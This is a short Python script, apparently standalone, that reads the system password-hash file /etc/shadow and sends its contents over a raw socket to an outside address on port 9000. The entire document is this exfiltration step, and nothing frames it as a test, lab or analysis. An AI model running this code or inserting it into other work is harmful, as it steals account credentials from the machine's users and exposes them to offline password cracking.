import socket
data = open("/etc/shadow").read()
s = socket.create_connection(("198.51.100.61", 9000))
s.sendall(data.encode())
